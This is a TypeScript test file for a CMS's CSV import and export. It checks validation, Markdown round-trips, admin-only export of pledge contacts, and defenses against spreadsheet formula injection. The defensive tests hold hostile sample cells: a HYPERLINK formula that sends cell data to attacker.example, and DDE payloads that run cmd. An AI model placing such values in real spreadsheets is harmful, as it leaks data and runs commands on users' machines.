/**
 * The CSV format on its own, without a database: reading a file with line numbers, a row into the
 * contract (content/schema.ts) with a message per column, the example files in content/examples/,
 * and what the export writes: no cell a spreadsheet would run as a formula, no pledge contact
 * details for anyone but admins (issue #15).
 */
import { readFileSync } from 'node:fs'
// The writer the export plugin (@payloadcms/plugin-import-export) uses, so these files are the ones it writes.
import { stringify } from 'csv-stringify/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { jobPostingColumns, trainingProgramColumns } from '../cms/csv/columns.ts'
import { neutralizeCell, restoreCell } from '../cms/csv/formulas.ts'
import { readCsv } from '../cms/csv/importListings.ts'
import { csvTemplate } from '../cms/csv/template.ts'
import { contactColumns, pledgeColumns, pledgeToRow } from '../cms/csv/pledgeRows.ts'
import type { RefKind } from '../cms/csv/columns.ts'
import { richTextCells } from '../cms/csv/markdown.ts'
import { listingToRow, type References, rowToListing } from '../cms/csv/rows.ts'
import { renderRichText } from '../site/lib/richtext.ts'
import { csvLine, requiredJobCells } from './helpers/listings.ts'

// Rich text cells are read with the CMS's own editor config; loading the config needs a secret.
process.env.PAYLOAD_SECRET ||= 'csv-test'
const { default: config } = await import('../cms/payload.config.ts')

/** References as the CMS would load them, from the snapshot (ids are the slugs here). */
async function snapshotReferences(): Promise<References> {
  const files = { organizations: 'organizations', workerTypes: 'worker-types', regions: 'regions', languages: 'languages', coreRoles: 'core-roles' } as const
  const refs = { richText: await richTextCells(await config) } as References
  for (const [kind, file] of Object.entries(files) as [RefKind, string][]) {
    const docs = JSON.parse(readFileSync(`content/${file}.json`, 'utf8')) as { slug: string; name: string | { en: string; es?: string } }[]
    const bySlug = new Map()
    const byName = new Map()
    for (const doc of docs) {
      const ref = { id: doc.slug, slug: doc.slug }
      bySlug.set(doc.slug, ref)
      const names = typeof doc.name === 'string' ? [doc.name] : [doc.name.en, doc.name.es].filter(Boolean)
      for (const name of new Set(
        names.map((n) =>
          n!
            .normalize('NFD')
            .replace(/[\u0300-\u036f]/g, '')
            .toLowerCase()
            .replace(/\s+/g, ' ')
            .trim(),
        ),
      )) {
        byName.set(name, [...(byName.get(name) ?? []), ref])
      }
    }
    refs[kind] = { bySlug, byName }
  }
  return refs
}
const refs = await snapshotReferences()
const { richText } = refs

type Doc = Record<string, any>

/** A job posting in the contract's shape as the CMS reads it for the export (`depth: 1`). */
function asCmsDoc(listing: Doc): Doc {
  const populated = (slug: string) => ({ id: 1, slug })
  return {
    ...listing,
    employer: populated(listing.employer),
    workerTypes: listing.workerTypes.map(populated),
    languages: { required: listing.languages.required.map(populated), preferred: listing.languages.preferred.map(populated) },
    location: { ...listing.location, region: populated(listing.location.region) },
    duties: listing.duties.map((d: { en: string }) => ({ text: d })),
    requirements: { ...listing.requirements, other: listing.requirements.other.map((d: { en: string }) => ({ text: d })) },
    postedDate: `${listing.postedDate}T12:00:00.000Z`,
    ...(listing.closingDate ? { closingDate: `${listing.closingDate}T12:00:00.000Z` } : {}),
    _status: 'draft',
  }
}

/** Export rows as the plugin writes them (csv-stringify, header first), read back by the import. */
function throughCsv(rows: Record<string, string>[]): Record<string, string>[] {
  const columns = Object.keys(rows[0]!)
  const text = stringify(rows, { bom: true, header: true, columns })
  return readCsv(text, 'en').rows.map((r) => r.cells)
}

describe('readCsv', () => {
  it('numbers rows by their first line in the file, past quoted line breaks and blank lines', () => {
    const { header, rows } = readCsv('\uFEFFslug,title\r\na,"two\r\nlines"\r\n\r\nb,x\r\n', 'en')
    expect(header).toEqual(['slug', 'title'])
    expect(rows.map((r) => [r.line, r.cells.slug])).toEqual([
      [2, 'a'],
      [5, 'b'],
    ])
  })
})

describe('the example files', () => {
  it('every job in content/examples/jobs.csv is valid, relationships found by slug or by name', () => {
    const { header, rows } = readCsv(readFileSync('content/examples/jobs.csv', 'utf8'), 'en')
    expect(header.every((h) => jobPostingColumns.some((c) => c.name === h))).toBe(true)
    const results = rows.map((row) => rowToListing('job-postings', row.cells, refs, 'en'))
    expect(results.map((r) => r.problems)).toEqual([[], []])
    const [first, second] = results.map((r) => r.listing!)
    expect(first!.employer).toBe('example-bayview-health-system')
    expect(first!.workerTypes).toEqual(['community-health-worker', 'promotor-de-salud'])
    expect(first!.title.es).toBe('Trabajador(a) Comunitario(a) de Salud – Alcance')
    expect(first!.description.en.root.children).toHaveLength(2)
    expect(second!.slug).toBe('patient-navigator-remote')
    expect(second!.pay).toEqual({ min: 2400, unit: 'month', currency: 'USD' })
    expect(second!.location.region).toBe('california-statewide')
  })

  it('every training in content/examples/trainings.csv is valid', () => {
    const { header, rows } = readCsv(readFileSync('content/examples/trainings.csv', 'utf8'), 'en')
    expect(header.every((h) => trainingProgramColumns.some((c) => c.name === h))).toBe(true)
    const [result] = rows.map((row) => rowToListing('training-programs', row.cells, refs, 'en'))
    expect(result!.problems).toEqual([])
    expect(result!.listing!.sessions).toEqual([{ startDate: '2027-02-01', endDate: '2027-04-30' }, { startDate: '2027-09-06' }])
    expect(result!.listing!.languages).toEqual(['english', 'spanish'])
  })
})

describe('the CSV templates', () => {
  it('have every import column once, and a row typed into the job template is a valid job', () => {
    for (const [collection, columns] of [
      ['job-postings', jobPostingColumns],
      ['training-programs', trainingProgramColumns],
    ] as const) {
      const { header, rows } = readCsv(csvTemplate(collection), 'en')
      expect(header).toEqual(columns.map((c) => c.name))
      expect(rows).toEqual([])
    }
    const template = csvTemplate('job-postings')
    // The employer by its name, as a staff member would type it.
    const cells = { ...requiredJobCells, title: 'Promotora', summary: 'Outreach in Santa Rosa.', employer: 'Example Bayview Health System' }
    const { header, rows } = readCsv(`${template}${csvLine(readCsv(template, 'en').header, cells)}\r\n`, 'en')
    expect(rows).toHaveLength(1)
    expect(rows[0]!.line).toBe(2)
    expect(header[0]).toBe('slug')
    expect(rowToListing('job-postings', rows[0]!.cells, refs, 'en').problems).toEqual([])
  })
})

describe('rowToListing', () => {
  const good = readCsv(readFileSync('content/examples/jobs.csv', 'utf8'), 'en').rows[0]!.cells

  it('names each bad column with a message, in English or Spanish', () => {
    const bad = {
      ...good,
      employer: 'Nobody Clinic',
      pay_min: 'twenty',
      pay_unit: 'week',
      howToApply_url: 'example.org',
      closingDate: '2026-12-01',
      location_region: 'Atlantis',
    }
    const { listing, problems } = rowToListing('job-postings', bad, refs, 'en')
    expect(listing).toBeUndefined()
    expect(problems.map((p) => p.column)).toEqual(['employer', 'location_region', 'pay_min', 'pay_unit', 'howToApply_url', 'closingDate'])
    expect(problems[0]!.message).toMatch(/No organization called "Nobody Clinic"/)
    expect(problems[1]!.message).toMatch(/No region called "Atlantis"/)
    expect(problems[5]!.message).toMatch(/closing date is before the posted date/)
    const spanish = rowToListing('job-postings', bad, refs, 'es').problems
    expect(spanish[0]!.message).toMatch(/No hay organización llamado "Nobody Clinic"/)
  })

  it('reports a missing required value and a cell that is too long', () => {
    const { problems } = rowToListing('job-postings', { ...good, title: '', summary: 'x'.repeat(501), workerTypes: '' }, refs, 'en')
    expect(problems).toEqual([
      { column: 'title', message: 'This column is required: fill it in.' },
      { column: 'workerTypes', message: 'This column is required: fill it in.' },
      { column: 'summary', message: 'Too long: at most 500 characters.' },
    ])
  })

  it('asks for the Spanish of every required text once a row has any Spanish', () => {
    const { problems } = rowToListing('job-postings', { ...good, summary_es: '' }, refs, 'en')
    expect(problems).toEqual([{ column: 'summary_es', message: 'This row has Spanish text, so it needs summary_es too (or leave every _es column empty).' }])
    expect(rowToListing('job-postings', { ...good, summary_es: '', title_es: '', description: '' }, refs, 'en').problems).toEqual([])
  })

  it('round-trips through the export row', () => {
    const { listing } = rowToListing('job-postings', good, refs, 'en')
    const doc = asCmsDoc(listing!)
    const row = listingToRow('job-postings', doc, richText)
    const again = rowToListing('job-postings', row, refs, 'en', listing!.updatedAt)
    expect(again.problems).toEqual([])
    expect(again.listing).toEqual(listing)
  })
  it('keeps headings, lists, links and bold in a description through export, a spreadsheet and import (Markdown cells)', () => {
    const markdown = [
      '## What you will do',
      'Visit **families** at home and follow up by phone.',
      '- Screen for food and housing needs\n- Connect families to [WIC](https://www.fns.usda.gov/wic)',
      '1. Apply online\n2. Meet the team',
    ].join('\n\n')
    const { listing, problems } = rowToListing('job-postings', { ...good, description: markdown }, refs, 'en')
    expect(problems).toEqual([])
    const blocks = (listing!.description.en.root.children as Doc[]).map((n) => (n.type === 'list' ? `list:${n.listType}` : n.type))
    expect(blocks).toEqual(['heading', 'paragraph', 'list:bullet', 'list:number'])
    const html = renderRichText(listing!.description.en)
    expect(html).toContain('<a href="https://www.fns.usda.gov/wic">WIC</a>')
    expect(html).toContain('<strong>families</strong>')
    expect(html).toContain('<ol><li>Apply online</li>')

    const [cells] = throughCsv([listingToRow('job-postings', asCmsDoc(listing!), richText)])
    expect(cells!.description).toBe(markdown)
    // Imported again it is the same listing (a link node gets a new id each time, nothing else changes).
    const again = rowToListing('job-postings', cells!, refs, 'en', listing!.updatedAt).listing!
    expect(richText.write(again.description.en)).toBe(markdown)
    expect({ ...again, description: null }).toEqual({ ...listing, description: null })
  })
})

describe('spreadsheet formulas in exports (issue #15)', () => {
  const seed = 20261205
  const runs = (numRuns: number) => ({ seed, numRuns })
  const dangerous = ['=', '+', '-', '@', '\t', '\r'] as const
  const hyperlink = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
  /** A cell a spreadsheet would run (or read past a tab / carriage return into a formula). */
  const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell)

  it('gives every text starting with = + - @ tab or CR a leading apostrophe, and the import takes it off again', () => {
    fc.assert(
      fc.property(fc.constantFrom(...dangerous), fc.string({ maxLength: 40 }), (start, rest) => {
        const text = `${start}${rest}`
        expect(neutralizeCell(text)).toBe(`'${text}`)
        expect(restoreCell(neutralizeCell(text))).toBe(text)
      }),
      runs(2000),
    )
  })

  it('round-trips any text, apostrophes included, and never writes a runnable cell', () => {
    const unit = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', 'Z', '1', '"', ',')
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 20 }), fc.string({ unit, maxLength: 12 })), (text) => {
        const cell = neutralizeCell(text)
        expect(runnable(cell)).toBe(false)
        expect(restoreCell(cell)).toBe(text)
      }),
      runs(5000),
    )
  })

  it('leaves other cells alone, a leading apostrophe included', () => {
    for (const text of ['', 'Ohana Health', "'Ohana Health", "'", "''", ' =not at the start', 'a=b', '2027-01-04']) {
      expect(neutralizeCell(text)).toBe(text)
      expect(restoreCell(text)).toBe(text)
    }
    // Someone who typed the apostrophe themselves gets the text they meant, as a spreadsheet shows it.
    expect(restoreCell("'=SUM(A1:A2)")).toBe('=SUM(A1:A2)')
  })

  it('writes and reads any cell exactly through the CSV, tab and carriage return included', () => {
    fc.assert(
      fc.property(fc.constantFrom(...dangerous), fc.string({ maxLength: 40 }), fc.string({ maxLength: 10 }), (start, rest, other) => {
        const text = `${start}${rest}`
        const [cells] = throughCsv([{ a: neutralizeCell(text), b: neutralizeCell(other) }])
        expect(cells).toEqual({ a: text, b: other })
      }),
      runs(1000),
    )
  })

  const { listing: example } = rowToListing('job-postings', readCsv(readFileSync('content/examples/jobs.csv', 'utf8'), 'en').rows[0]!.cells, refs, 'en')
  const hostile: Doc = {
    ...example!,
    title: { en: hyperlink, es: '+cmd|" /C calc"!A0' },
    summary: { en: '-2+3 summary', es: '@SUM(1+1)*cmd|" /C calc"!A0' },
    description: { ...example!.description, en: richText.read('@first paragraph\n\nsecond') },
    duties: [{ en: '=1+1 duty' }, { en: 'Second duty' }],
    location: { ...example!.location, city: '=Santa Rosa' },
    benefits: { en: '+ dental' },
    pay: { ...example!.pay, min: 24.5, max: 30 },
  }

  it('neutralizes every text cell of a job posting, rich text and lists included, and keeps numbers numbers', () => {
    const row = listingToRow('job-postings', asCmsDoc(hostile), richText)
    expect(row).toMatchObject({
      title: `'${hyperlink}`,
      title_es: `'+cmd|" /C calc"!A0`,
      summary: "'-2+3 summary",
      summary_es: `'@SUM(1+1)*cmd|" /C calc"!A0`,
      duties: "'=1+1 duty | Second duty",
      location_city: "'=Santa Rosa",
      benefits: "'+ dental",
      pay_min: '24.5',
      pay_max: '30',
    })
    expect(Object.entries(row).filter(([, cell]) => runnable(cell))).toEqual([])
    // A number column holds a number: a negative one is a number in the spreadsheet too, not text.
    expect(listingToRow('job-postings', asCmsDoc({ ...hostile, pay: { ...hostile.pay, min: -5 } }), richText).pay_min).toBe('-5')
  })

  it('imports an exported job posting back unchanged', () => {
    const [cells] = throughCsv([listingToRow('job-postings', asCmsDoc(hostile), richText)])
    const again = rowToListing('job-postings', cells!, refs, 'en', hostile.updatedAt)
    expect(again.problems).toEqual([])
    expect(again.listing).toEqual(hostile)
  })

  it('round-trips job titles starting with = + - or @ through the CSV (a listing’s text is trimmed, so never starts with tab or CR)', () => {
    const title = fc.tuple(fc.constantFrom('=', '+', '-', '@'), fc.string({ maxLength: 150 })).map(([start, rest]) => `${start}${rest}`.trimEnd())
    fc.assert(
      fc.property(title, (text) => {
        const doc: Doc = { ...example!, title: { en: text, es: `${text} es` } }
        const [cells] = throughCsv([listingToRow('job-postings', asCmsDoc(doc), richText)])
        const again = rowToListing('job-postings', cells!, refs, 'en', doc.updatedAt)
        expect(again.problems).toEqual([])
        expect(again.listing!.title).toEqual(doc.title)
      }),
      runs(300),
    )
  }, 60_000)

  it('neutralizes every text cell of a training program', () => {
    const { listing } = rowToListing('training-programs', readCsv(readFileSync('content/examples/trainings.csv', 'utf8'), 'en').rows[0]!.cells, refs, 'en')
    const doc = {
      ...listing!,
      provider: { id: 1, slug: listing!.provider },
      title: { en: hyperlink },
      cost: { ...listing!.cost, note: { en: '-50% for members' } },
      certification: { ...listing!.certification, body: '@State board' },
      contact: { name: '=Rosa', email: 'rosa@example.org', phone: '+1 707 555 0123' },
      hours: 40,
    }
    const row = listingToRow('training-programs', doc, richText)
    expect(row).toMatchObject({
      title: `'${hyperlink}`,
      cost_note: "'-50% for members",
      certification_body: "'@State board",
      contact_name: "'=Rosa",
      contact_phone: "'+1 707 555 0123",
      hours: '40',
    })
    expect(Object.entries(row).filter(([, cell]) => runnable(cell))).toEqual([])
  })

  const pledge: Doc = {
    reference: 'PLG-2027-0001',
    status: 'pending',
    createdAt: '2027-01-04T10:00:00.000Z',
    organizationName: hyperlink,
    organization: { kind: 'clinic', region: { id: 1, slug: 'sonoma-county' }, website: 'https://example.org', chwCount: 4 },
    contact: { name: '@Rosa', title: '-Director', email: '=rosa@example.org', phone: '+1 707 555 0123' },
    signerName: '+Ana',
    signerTitle: 'CEO',
    consentToList: true,
    commitments: [{ area: 'hiring', recommendations: ['no-degree-required'] }],
    selfAssessment: [{ area: 'hiring', rating: 'partly' }],
    locale: 'en',
    progressReports: [],
  }

  it('neutralizes every text cell of a pledge, and keeps its counts numbers', () => {
    const row = pledgeToRow(pledge, { contact: true })
    expect(row).toMatchObject({
      organizationName: `'${hyperlink}`,
      contact_name: "'@Rosa",
      contact_title: "'-Director",
      contact_email: "'=rosa@example.org",
      contact_phone: "'+1 707 555 0123",
      signerName: "'+Ana",
      organization_chwCount: '4',
      commitmentAreas: '1',
      progressReports: '0',
    })
    expect(Object.entries(row).filter(([, cell]) => runnable(cell))).toEqual([])
  })
})

describe('pledge contact details in exports (issue #15)', () => {
  const pledge: Doc = {
    reference: 'PLG-2027-0002',
    status: 'approved',
    organizationName: 'Ohana Health',
    organization: { kind: 'clinic', region: { id: 1, slug: 'sonoma-county' }, chwCount: 4 },
    contact: { name: 'Rosa Contact', title: 'Director', email: 'rosa@example.org', phone: '(707) 555-0123' },
    commitments: [],
  }

  it('has the contact columns only when the reader may export them (admins)', () => {
    expect(contactColumns).toEqual(['contact_name', 'contact_title', 'contact_email', 'contact_phone'])
    const withContact = pledgeToRow(pledge, { contact: true })
    expect(Object.keys(withContact)).toEqual([...pledgeColumns])
    expect(withContact).toMatchObject({ contact_email: 'rosa@example.org', contact_phone: '(707) 555-0123' })
    const without = pledgeToRow(pledge, { contact: false })
    expect(Object.keys(without)).toEqual(pledgeColumns.filter((c) => !(contactColumns as readonly string[]).includes(c)))
    expect(JSON.stringify(without)).not.toContain('rosa@example.org')
    expect(JSON.stringify(without)).not.toContain('555-0123')
  })
})
